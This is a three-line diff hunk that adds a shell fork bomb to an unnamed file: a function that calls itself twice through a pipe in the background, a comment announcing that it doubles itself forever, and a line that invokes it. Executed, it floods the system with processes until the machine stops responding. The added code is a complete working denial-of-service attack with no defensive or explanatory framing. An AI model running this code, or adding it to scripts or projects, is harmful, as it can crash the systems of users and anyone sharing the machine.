@@ -1,0 +1,3 @@
+# Doubles itself for ever.
+f() { f | f & f; }
+f
